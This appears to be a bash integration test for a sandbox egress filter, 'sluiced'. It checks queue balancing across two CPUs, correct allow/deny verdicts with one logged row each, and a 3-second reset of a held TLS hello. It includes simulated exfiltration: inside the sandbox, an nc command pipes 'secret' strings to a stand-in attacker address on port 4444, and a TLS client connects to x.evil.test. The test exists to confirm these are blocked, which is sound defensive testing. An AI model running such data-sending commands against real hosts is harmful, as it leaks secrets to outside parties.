#!/bin/bash
# 52-queue-balance: sluiced with --queue-balance 2 reads two queues, one
# thread each, flows spread over them by CPU. Clients pinned to each CPU
# make allowed TLS (held and inspected), allowed plain TCP and denied
# connections at once: each gets the right verdict and exactly one row,
# both queues carried packets, and the attacker received nothing. A first
# flight a reader holds is still reset at its 3 s deadline, with nothing
# else to wake the main loop.
. "$(dirname "$0")/../lib/testbed.sh"
tb_init qbal
tb_internet_up || { tb_fail "test bed up"; tb_done; }
tb_sluiced_start --queue-balance 2 || { tb_fail "sluiced up"; tb_done; }

rules=$(ip netns exec "$TB_NETNS_GW" iptables -S sluice-sandbox)
tb_assert_match "$rules" "NFQUEUE --queue-balance 0:1 --queue-cpu-fanout" \
    "the ruleset spreads new flows over queues 0 and 1 by CPU"
tb_check "and never bypasses them" sh -c "! echo '$rules' | grep -q bypass"
nthreads=$(ls /proc/$TB_SLUICED_PID/task | wc -l)
# (a sanitizer's runtime may add one of its own)
tb_check "sluiced runs 5 threads: main loop, 2 queue readers, the log writer, the veth reaper ($nthreads)" \
    test "$nthreads" -ge 5 -a "$nthreads" -le 6

cat > "$TB_DIR/policy.json" <<EOF
{"network": {"allowedDomains": ["a.test"]},
 "sluice": {"allowedCidrs": ["$TB_ADDR_DB:5432"]}}
EOF
tb_check "sandbox add" tb_sandbox_add a "$TB_DIR/policy.json"
tb_assert_eq "$(tb_in a dig +short a.test)" "$TB_ADDR_HTTPS" "a.test resolves"

# 3 kinds x 2 CPUs x N rounds, all at once
N=8
pids=()
for cpu in 0 1; do
	(
		for i in $(seq 1 $N); do
			tb_in a taskset -c $cpu curl -s --max-time 5 --cacert "$TB_CA" \
			    -o /dev/null -w '%{http_code}\n' https://a.test/ &
			tb_in a taskset -c $cpu nc -z -w 3 "$TB_ADDR_DB" 5432 \
			    && echo open || echo closed &
			echo "secret-$cpu-$i" | tb_in a taskset -c $cpu nc -w 2 \
			    "$TB_ADDR_ATK" 4444 >/dev/null 2>&1 && echo leak || echo refused &
		done
		wait
	) > "$TB_DIR/cpu$cpu.out" 2>&1 &
	pids+=($!)
done
# (not a bare wait: the test bed's own servers are this shell's jobs too)
wait "${pids[@]}"
out=$(cat "$TB_DIR"/cpu*.out | sort | uniq -c | awk '{print $2 "=" $1}' | tr '\n' ' ')
tb_assert_eq "$out" "200=$((2 * N)) open=$((2 * N)) refused=$((2 * N)) " \
    "every TLS fetch and allowed connection succeeded, every denied one refused"

qstat() {
	# queue number and the id of the last packet it was given
	ip netns exec "$TB_NETNS_GW" awk '{ print $1, $8 }' /proc/net/netfilter/nfnetlink_queue
}
q=$(qstat)
echo "queues (number, packets given): $q"
tb_check "queue 0 carried packets" sh -c "echo '$q' | awk '\$1 == 0 && \$2 > 0' | grep -q ."
tb_check "queue 1 carried packets" sh -c "echo '$q' | awk '\$1 == 1 && \$2 > 0' | grep -q ."

tb_wait_rows "SELECT count(*) FROM flows" $((6 * N))
tb_assert_eq "$(tb_sql "SELECT count(*) FROM flows WHERE verdict = 'allow' AND reason = 'allowed_domain' AND sni = 'a.test'")" \
    $((2 * N)) "one allowed row per TLS connection, with its SNI"
tb_assert_eq "$(tb_sql "SELECT count(*) FROM flows WHERE verdict = 'allow' AND reason = 'allowed_cidr' AND dst_port = 5432")" \
    $((2 * N)) "one allowed row per plain connection"
tb_assert_eq "$(tb_sql "SELECT count(*) FROM flows WHERE verdict = 'deny' AND dst_ip = '$TB_ADDR_ATK'")" \
    $((2 * N)) "one denied row per attempt on the attacker"
tb_assert_eq "$(tb_sql "SELECT count(*) FROM flows")" $((6 * N)) "and no other row"
tb_assert_eq "$(tb_attacker_conn_count)" 0 "the attacker accepted no connection"
tb_check "no secret on the far side" [ "$(tb_attacker_received | grep -ac secret)" = 0 ]

# the control socket and the resolver keep working beside the readers
# (the new policy lets the sandbox reach the attacker by name: below)
cat > "$TB_DIR/policy2.json" <<EOF
{"network": {"allowedDomains": ["a.test", "*.evil.test"]},
 "sluice": {"allowedCidrs": ["$TB_ADDR_DB:5432"]}}
EOF
tb_check "policy set while the readers run" tb_sluice policy set "${P}-a" "$TB_DIR/policy2.json"
tb_assert_eq "$(tb_in a dig +short a.test)" "$TB_ADDR_HTTPS" "a.test still resolves"

# A reader holds a first flight while the main loop sleeps with no timer
# of its own: the hold's 3 s deadline must still wake it (33, one queue).
tb_in a dig +short x.evil.test >/dev/null
t0=$(tb_time_ms)
out=$(tb_in a "$TB_PY" "$TB_LIB/tlsclient.py" "$TB_ADDR_ATK" 443 --sni x.evil.test \
    --truncate 100 --wait 6)
t1=$(tb_time_ms)
tb_assert_eq "$out" "reset" "an incomplete hello held by a reader is reset"
tb_assert_le $((t1 - t0)) 5000 "after the 3 s hold ($((t1 - t0)) ms), not when something else wakes the loop"
tb_check "not before it either" [ $((t1 - t0)) -ge 2500 ]
sleep 0.3
tb_assert_eq "$(tb_attacker_payload_bytes proto=tcp dport=443)" 0 \
    "the attacker received none of the held bytes"
tb_wait_rows "SELECT count(*) FROM flows WHERE reason = 'hold_timeout'" 1 >/dev/null
tb_assert_eq "$(tb_sql "SELECT dst_port, verdict FROM flows WHERE reason = 'hold_timeout'")" \
    "443|deny" "logged as hold_timeout"
tb_check "a clean stop joins the readers" tb_sluiced_stop
tb_done
